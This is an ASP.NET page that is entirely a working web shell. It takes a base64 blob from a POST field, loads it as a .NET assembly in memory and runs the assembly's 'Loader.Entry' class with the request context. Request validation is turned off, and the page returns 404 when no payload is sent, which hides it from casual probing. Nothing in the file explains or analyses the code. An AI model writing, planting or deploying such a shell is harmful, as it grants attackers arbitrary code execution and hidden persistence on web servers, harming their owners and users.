<%@ Page Language="C#" ValidateRequest="false" EnableViewState="false" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e)
    {
        string blob = Request.Form["data"];
        if (blob == null) { Response.StatusCode = 404; return; }
        Assembly a = Assembly.Load(Convert.FromBase64String(blob));
        object o = a.CreateInstance("Loader.Entry");
        o.Equals(this.Context);
    }
</script>
